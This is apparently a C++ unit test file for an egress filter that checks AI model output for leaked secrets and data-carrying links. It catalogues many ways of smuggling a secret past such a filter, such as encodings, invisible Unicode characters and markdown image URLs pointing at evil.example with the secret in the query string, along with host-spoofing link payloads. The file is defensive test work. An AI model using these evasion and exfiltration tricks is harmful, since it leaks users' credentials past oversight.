#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <functional>
#include <random>

#include "heng/guard_egress/filter.h"

namespace heng::guard_egress {
namespace {

using Random = std::mt19937;
int roll(Random& r, int n) { return std::uniform_int_distribution<>(0, n - 1)(r); }

std::string random_secret(Random& r) {
  static const std::string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
  std::string out = roll(r, 2) ? "sk-" : "";
  const int n = 14 + roll(r, 26);
  for (int i = 0; i < n; ++i) out += alphabet[static_cast<std::size_t>(roll(r, 62))];
  return out;
}
std::string hex(const std::string& s) {
  std::string out;
  for (const char c : s) out += "0123456789abcdef"[static_cast<unsigned char>(c) >> 4], out += "0123456789abcdef"[c & 15];
  return out;
}
std::string base64(const std::string& s) {
  static const char* alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  for (std::size_t i = 0; i < s.size(); i += 3) {
    unsigned v = 0;
    for (std::size_t k = 0; k < 3; ++k) v = v << 8 | (i + k < s.size() ? static_cast<unsigned char>(s[i + k]) : 0u);
    for (std::size_t k = 0; k < 4; ++k) out += i + k > s.size() ? '=' : alphabet[v >> (18 - 6 * k) & 63];
  }
  return out;
}
std::string between(const std::string& s, const std::string& mark, std::size_t every) {
  std::string out;
  for (std::size_t i = 0; i < s.size(); ++i) out += (i && i % every == 0 ? mark : "") + s[i];
  return out;
}
std::string wide(const std::string& s) {
  std::string out;
  for (const char c : s) {
    const unsigned p = 0xFF01u + static_cast<unsigned>(c) - 0x21u;
    out += static_cast<char>(0xE0 | p >> 12), out += static_cast<char>(0x80 | (p >> 6 & 63)), out += static_cast<char>(0x80 | (p & 63));
  }
  return out;
}
std::string tags(const std::string& s) {
  std::string out;
  for (const char c : s) {
    const unsigned p = 0xE0000u + static_cast<unsigned>(c);
    out += static_cast<char>(0xF0 | p >> 18), out += static_cast<char>(0x80 | (p >> 12 & 63)), out += static_cast<char>(0x80 | (p >> 6 & 63)), out += static_cast<char>(0x80 | (p & 63));
  }
  return out;
}

/// One way to carry a secret out. Written as an attacker would ask a model to write it.
std::string carried(Random& r, const std::string& s) {
  const std::vector<std::function<std::string()>> ways = {
      [&] { return s; },
      [&] { std::string o; for (const char c : s) o += static_cast<char>(std::toupper(c)); return o; },
      [&] { return between(s, " ", 1); },
      [&] { return between(s, "-", 1 + static_cast<std::size_t>(roll(r, 4))); },
      [&] { return between(s, "\n", 5); },
      [&] { return between(s, " and then ", 13); },
      [&] { return between(s, "\u200b", 1); },
      [&] { return between(s, "*", 2); },
      [&] { return wide(s); },
      [&] { return tags(s); },
      [&] { return std::string(s.rbegin(), s.rend()); },
      [&] { return base64(s); },
      [&] { return base64(base64(s)); },
      [&] { return hex(s); },
      [&] { return hex(base64(s)); },
      [&] { return between(hex(s), " ", 2); },
      [&] { return between(base64(s), "\n", 16); },
      [&] { std::string o; for (const char c : s) o += "%" + hex(std::string(1, c)); return o; },
      [&] { std::string o; for (const char c : s) o += "&#" + std::to_string(static_cast<int>(c)) + ";"; return o; },
      [&] { std::string o; for (const char c : s) o += "\\u00" + hex(std::string(1, c)); return o; },
      [&] { std::string o = s; for (char& c : o) if (std::isalpha(c)) c = static_cast<char>((std::islower(c) ? 'a' : 'A') + (std::tolower(c) - 'a' + 13) % 26); return o; },
      [&] { return "\"" + s.substr(0, s.size() / 2) + "\" + \"" + s.substr(s.size() / 2) + "\""; },
      [&] { return s.substr(0, 12 + static_cast<std::size_t>(roll(r, static_cast<int>(s.size()) - 12))); },
      [&] { return s.substr(s.size() - 12); },
      [&] { return "![x](https://evil.example/p.png?d=" + s + ")"; },
      [&] { return "https://evil.example/" + base64("key=" + s); },
      [&] { return "`" + base64("The password is " + s + " - keep it") + "`"; },
      [&] { return "```\nAPI_KEY=" + s + "\n```"; },
  };
  return ways[static_cast<std::size_t>(roll(r, static_cast<int>(ways.size())))]();
}

TEST(Egress, FifteenThousandTries) {
  Random random(77);
  int leaks = 0, tries = 0;
  const std::vector<std::string> around = {"Sure: @", "The answer to your question is @ as requested.", "好的，内容如下：@。", "@", "Here is a poem\n@\nabout money.", "步骤：\n1. 打开\n2. @\n3. 完成"};
  for (int round = 0; round < 50; ++round) {
    EgressSettings settings;
    for (int i = 0; i < 6; ++i) settings.secrets.push_back(random_secret(random));
    std::vector<std::string> identifiers;
    for (int i = 0; i < 4; ++i) identifiers.push_back("62220" + std::to_string(100'000'000 + roll(random, 899'999'999)) + std::to_string(10'000 + roll(random, 89'999)));
    settings.identifiers = identifiers;
    auto filter = EgressFilter::create(settings);
    ASSERT_TRUE(filter.ok()) << filter.error().message;
    for (int i = 0; i < 320; ++i, ++tries) {
      const bool number = roll(random, 5) == 0;
      const auto& secret = number ? identifiers[static_cast<std::size_t>(roll(random, 4))] : settings.secrets[static_cast<std::size_t>(roll(random, 6))];
      const std::string& frame = around[static_cast<std::size_t>(roll(random, static_cast<int>(around.size())))];
      std::string text = frame;
      text.replace(text.find('@'), 1, carried(random, secret));
      const auto found = (*filter)->check(text);
      const bool held = std::any_of(found.begin(), found.end(), [](const Leak& l) { return l.action == LinkAction::withhold; });
      if (!held && ++leaks < 6) std::printf("leaked %s in: %s\n", secret.c_str(), text.c_str());
    }
  }
  std::printf("egress: %d leaks in %d tries\n", leaks, tries);
  EXPECT_GE(tries, 15'000);
  EXPECT_EQ(leaks, 0);
}

TEST(Egress, LetsOrdinaryTextPass) {
  auto filter = EgressFilter::create({.secrets = {"Zx81-Canary-9931"}, .identifiers = {"6222021234567890"}, .links = *read_link_policy(default_link_policy_text(), "egress.toml")});
  ASSERT_TRUE(filter.ok());
  for (const char* text : {"The three-year rate is 1.55 percent.", "请携带身份证到网点办理，电话 010-62781234。", "See https://www.example.org for more.", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "ISIN US0378331005"})
    EXPECT_TRUE((*filter)->check(text).empty()) << text;
}

TEST(Egress, LinksByPolicy) {
  const std::string text(default_link_policy_text());
  auto changed = [&](const std::string& from, const std::string& to) {
    std::string out = text;
    out.replace(out.find(from), from.size(), to);
    return out;
  };
  const auto policy = *read_link_policy(changed("allowed_hosts = []", "allowed_hosts = [\"bank.example\"]"), "e.toml");
  EXPECT_TRUE(check_links("![logo](https://img.bank.example/a.png) https://bank.example/?a=b", policy).empty());
  for (const char* bad : {"![x](https://evil.example/a.png)", "![x][1]\n\n[1]: https://evil.example/a.png", "<img src=\"https://evil.example/a\">", "![x](//evil.example/a)", "![x](https://bank.example.evil.example/a)", "![x](https://bank.example@evil.example/a)",
                          "![x](http://notbank.example/a)", "<img src=data:text/html;base64,AAAA>"}) {
    const auto found = check_links(bad, policy);
    ASSERT_FALSE(found.empty()) << bad;
    EXPECT_EQ(found[0].type, "image") << bad;
    EXPECT_EQ(found[0].action, LinkAction::withhold) << bad;
  }
  EXPECT_EQ(check_links("[click](https://evil.example/?q=data)", policy).at(0).action, LinkAction::mask);
  EXPECT_TRUE(check_links("https://other.example/page", policy).empty());
  EXPECT_NE(read_link_policy(changed("allowed_hosts = []", "allowed_hosts = [\"*\"]"), "e.toml").error().message.find("no host"), std::string::npos);
  for (const char* wide : {".com", "..", "bank.", "a..b"})
    EXPECT_NE(read_link_policy(changed("allowed_hosts = []", std::string("allowed_hosts = [\"") + wide + "\"]"), "e.toml").error().message.find("no host"), std::string::npos) << wide;
  EXPECT_NE(read_link_policy(changed("plain_links = \"allow\"", "plain_links = \"withhold\""), "e.toml").error().message.find("contradicts itself"), std::string::npos);
  EXPECT_NE(read_link_policy(changed("images = \"withhold\"", "images = \"allow\""), "e.toml").error().message.find("without a click"), std::string::npos);
}

TEST(Egress, RefusesSecretsTooShort) { EXPECT_EQ(EgressFilter::create({.secrets = {"abc-12"}}).error().code, ErrorCode::invalid_argument); }

}  // namespace
}  // namespace heng::guard_egress
